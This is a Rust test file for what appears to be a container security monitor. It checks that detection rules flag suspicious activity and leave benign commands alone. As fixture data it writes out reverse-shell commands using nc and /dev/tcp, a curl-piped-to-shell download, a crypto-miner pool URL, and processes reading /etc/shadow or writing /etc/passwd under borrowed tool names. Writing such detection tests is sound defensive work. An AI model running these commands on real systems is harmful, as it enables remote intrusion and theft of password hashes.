//! What is told of events, and what is not: with our own rules, and without a kernel.

use haechi_core::event::{Network, Open, Process, Socket};

use super::*;
use crate::fields::Fields;

fn monitor() -> Monitor {
    let rules = Rules::load(&[crate::RULES], &Fields).rules;
    let mut monitor = Monitor::new(rules, Clock { started: Timestamp::UNIX_EPOCH }, "host".into());
    monitor.containers.begin(7, &"ab".repeat(32), "/docker/x", 1);
    monitor
}

fn event(call: &str, action: Action) -> Event {
    let process = Process { pid: 9, tid: 9, started: 5, ..Process::default() };
    Event { at: 2_000_000_000, cgroup: 7, process, call: call.into(), result: 0, action }
}

fn exec(path: &str, args: &[&str]) -> Event {
    let args = args.iter().map(|arg| (*arg).to_owned()).collect();
    let exec = Exec { path: path.into(), args, ..Exec::default() };
    let mut event = event("execve", Action::Exec(Box::new(exec)));
    event.process.name = path.rsplit('/').next().unwrap_or_default().into();
    event
}

fn all(judged: impl IntoIterator<Item = Judged>) -> Vec<Alert> {
    judged.into_iter().flat_map(|one| one.alerts).collect()
}

fn rules(event: &Event) -> Vec<String> {
    all(monitor().judge(event.clone())).into_iter().map(|alert| alert.rule).collect()
}

#[test]
fn a_rule_that_matches_is_an_alert_with_all_that_is_known() {
    let alerts = all(monitor().judge(exec("/usr/sbin/sshd", &["sshd", "-D"])));
    let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
    assert_eq!(alert.at, "1970-01-01T00:00:02Z".parse().unwrap());
    assert_eq!((alert.program.as_str(), alert.command.as_str()), ("/usr/sbin/sshd", "sshd -D"));
    assert_eq!(alert.checks, ["container-no-ssh-server"]);
    assert_eq!(alert.container.id.len(), 64);
    assert!(alert.text.contains("command=sshd -D"), "{}", alert.text);
}

#[test]
fn events_wait_for_the_name_but_not_for_ever() {
    let ssh = || exec("/usr/sbin/sshd", &["sshd"]);
    let begin = Instant::now();
    let mut named = monitor();
    assert!(named.see(ssh(), begin).is_empty());
    let told = Container { id: "ab".repeat(32), name: "web".into(), ..Container::default() };
    assert_eq!(named.learn(&told).len(), 1);
    let at_once = all(named.see(ssh(), begin));
    assert_eq!(at_once.iter().map(|a| a.container.name.as_str()).collect::<Vec<_>>(), ["web"]);

    let mut nameless = monitor();
    assert!(nameless.see(ssh(), begin).is_empty() && nameless.tick(begin).is_empty());
    assert_eq!(nameless.tick(begin + NAME_WAIT).len(), 1);
    assert_eq!(nameless.see(ssh(), begin + NAME_WAIT).len(), 1, "it has waited once");
    let mut ended = monitor();
    assert!(ended.see(ssh(), begin).is_empty());
    assert_eq!((ended.rest().len(), ended.rest().len()), (1, 0));
}

#[test]
fn what_attackers_do_and_what_everybody_does() {
    for (path, args, rule) in [
        ("/bin/nc", &["nc", "10.0.0.1", "9", "-e", "/bin/sh"][..], "Reverse shell"),
        ("/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/9"], "Reverse shell"),
        ("/bin/sh", &["sh", "-c", "curl -s site | sh"], "Download piped into a shell"),
        ("/tmp/a", &["a", "-o", "stratum+tcp://pool:1"], "Crypto miner"),
        ("/usr/bin/apt-get", &["apt-get", "install", "x"], "Package manager run in a container"),
    ] {
        assert_eq!(rules(&exec(path, args)), [rule], "{path}");
    }
    for (path, args) in [
        ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"][..]),
        ("/bin/nc", &["nc", "-z", "db", "5432"]),
        ("/bin/sh", &["sh", "-c", "curl -fsS site/health || exit 1"]),
        ("/usr/bin/ssh", &["ssh", "host"]),
    ] {
        assert_eq!(rules(&exec(path, args)), [""; 0], "{path}");
    }
}

#[test]
fn a_loader_is_looked_at_each_time_and_what_it_runs_is_judged() {
    let mut monitor = monitor();
    let by_loader = |args: &[&str]| {
        let mut event = exec("/lib/ld-linux-x86-64.so.2", args);
        if let Action::Exec(exec) = &mut event.action {
            exec.origin = Origin::Image;
        }
        event
    };
    let first = by_loader(&["ld.so", "/opt/agent"]);
    assert!(monitor.wants_identity(&first));
    let told = all(monitor.judge(first.clone()));
    assert!(told.iter().all(|alert| alert.checks.is_empty()), "{told:?}");
    let is = |runs: &str| Identity { file: LOADER.into(), runs: runs.into(), loads: false };
    let told = all([monitor.identified(&first, &is("openssh-server"))]);
    let checks: Vec<_> = told.iter().flat_map(|alert| alert.checks.clone()).collect();
    assert_eq!(checks, ["container-no-ssh-server"]);
    // What it ran once says nothing about the next time.
    let next = by_loader(&["ld.so", "/opt/other"]);
    assert!(monitor.wants_identity(&next));
    let told = all(monitor.judge(next));
    assert!(told.iter().all(|alert| alert.checks.is_empty()), "{told:?}");
    // By the name of what it is given it is known at once.
    let named = all(monitor.judge(by_loader(&["ld.so", "--argv0", "web", "/usr/sbin/sshd", "-D"])));
    assert!(named.iter().any(|alert| alert.checks == ["container-no-ssh-server"]), "{named:?}");
    let mut other = exec("/usr/bin/true", &["true"]);
    if let Action::Exec(exec) = &mut other.action {
        exec.origin = Origin::Image;
    }
    let nothing = Identity { file: String::new(), runs: String::new(), loads: false };
    monitor.identified(&other, &nothing);
    assert!(!monitor.wants_identity(&other));
}

#[test]
fn the_engine_socket_is_known_by_its_name() {
    let network = |path: &str| Network {
        socket: Socket::Unix,
        local: None,
        remote: None,
        path: path.into(),
        payload: Vec::new(),
    };
    let connect = |path: &str| event("connect", Action::Network(network(path)));
    assert_eq!(rules(&connect("/var/run/docker.sock")), ["Engine socket used by a container"]);
    assert_eq!(rules(&connect("/run/app.sock")), [""; 0]);
}

/// The start of a program by a process, with its parent and where its file is from.
fn start(pid: u32, parent: u32, path: &str, name: &str, args: &[&str], origin: Origin) -> Event {
    let mut event = exec(path, args);
    event.process = Process {
        pid,
        tid: pid,
        parent,
        name: name.into(),
        started: u64::from(pid),
        ..event.process
    };
    event.at += u64::from(pid);
    if let Action::Exec(exec) = &mut event.action {
        exec.origin = origin;
    }
    event
}

/// Rules that tell the last of these events.
fn last(events: &[Event]) -> Vec<String> {
    let mut monitor = monitor();
    let mut told = Vec::new();
    for event in events {
        told = all(monitor.judge(event.clone()));
    }
    told.into_iter().map(|alert| alert.rule).collect()
}

#[test]
fn who_only_calls_himself_a_build_tool_or_a_package_manager_is_none() {
    let drift = |path: &str, name: &str, origin: Origin| {
        let tool = start(20, 9, path, name, &[name], origin);
        last(&[tool, start(21, 20, "/tmp/x", "x", &["x"], Origin::Changed)])
    };
    let build = ["Program started that a build made"];
    assert_eq!(drift("/usr/bin/make", "make", Origin::Image), build);
    let warning = ["Program started that is not from the image"];
    // A copy of his own, and another program of the image under that name.
    assert_eq!(drift("/tmp/make", "make", Origin::Changed), warning);
    assert_eq!(drift("/usr/bin/dash", "make", Origin::Image), warning);

    let open = |path: &str| {
        let open = Open { path: path.into(), write: true, ..Open::default() };
        let mut event = event("openat", Action::Open(open));
        event.process = Process { pid: 31, tid: 31, parent: 30, started: 31, ..event.process };
        event.at += 50;
        event
    };
    let accounts = |path: &str, name: &str, origin: Origin| {
        let tool = start(30, 9, path, name, &[name], origin);
        let shell = start(31, 30, "/usr/bin/dash", "sh", &["sh"], Origin::Image);
        last(&[tool, shell, open("/etc/passwd")])
    };
    assert_eq!(accounts("/usr/bin/dpkg", "dpkg", Origin::Image), [""; 0]);
    assert_eq!(accounts("/usr/bin/dpkg", "dpkg", Origin::Changed), ["Accounts changed"]);
    assert_eq!(accounts("/usr/bin/dash", "dpkg", Origin::Image), ["Accounts changed"]);
}

#[test]
fn what_a_tool_may_do_another_program_may_not_under_its_name() {
    let does = |path: &str, name: &str, args: &[&str], file: &str, write: bool| {
        let open = Open { path: file.into(), read: !write, write, ..Open::default() };
        let mut event = event("openat", Action::Open(open));
        event.process = Process {
            pid: 40,
            tid: 40,
            parent: 9,
            started: 40,
            name: name.into(),
            ..event.process
        };
        event.at += 50;
        last(&[start(40, 9, path, name, args, Origin::Image), event])
    };
    let changed = ["Accounts changed"];
    let passwd = "/etc/passwd";
    assert_eq!(does("/usr/sbin/useradd", "useradd", &["useradd", "x"], passwd, true), [""; 0]);
    assert_eq!(does("/usr/bin/cp", "useradd", &["useradd", "a", passwd], passwd, true), changed);
    assert_eq!(does("/bin/busybox", "adduser", &["adduser", "x"], passwd, true), [""; 0]);
    assert_eq!(does("/bin/busybox", "adduser", &["cp", "a", passwd], passwd, true), changed);
    let perl = |args: &[&str]| does("/usr/bin/perl", "adduser", args, passwd, true);
    assert_eq!(perl(&["/usr/bin/perl", "/usr/sbin/adduser", "x"]), [""; 0]);
    assert_eq!(perl(&["/usr/bin/perl", "-e", "$0 = 'adduser'"]), changed);

    let read = ["Password hashes read"];
    let shadow = "/etc/shadow";
    assert_eq!(does("/bin/busybox", "su", &["su"], shadow, false), [""; 0]);
    assert_eq!(does("/bin/busybox", "su", &["cat", shadow], shadow, false), read);
    let perl = |name: &str, args: &[&str]| does("/usr/bin/perl", name, args, shadow, false);
    let script = ["Password hashes read by a script of Perl"];
    assert_eq!(perl("cron", &["/usr/bin/perl", "-T", "/usr/bin/report"]), script);
    assert_eq!(perl("x", &["x", "-e", "1", "report"]), read);

    let asked = |path: &str, name: &str, args: &[&str]| {
        last(&[start(40, 9, path, name, args, Origin::Image)])
    };
    assert_eq!(asked("/usr/bin/rpm", "rpm", &["rpm", "-q", "x"]), [""; 0]);
    let run = ["Package manager run in a container"];
    assert_eq!(asked("/usr/bin/apt-get", "rpm", &["rpm", "-q", "install", "x"]), run);

    let compiled = "/usr/lib/python3/__pycache__/os.pyc";
    assert_eq!(does("/usr/bin/python3.11", "python3", &["python3"], compiled, true), [""; 0]);
    assert_eq!(does("/usr/bin/cp", "cp", &["cp"], compiled, true), ["System program changed"]);
}
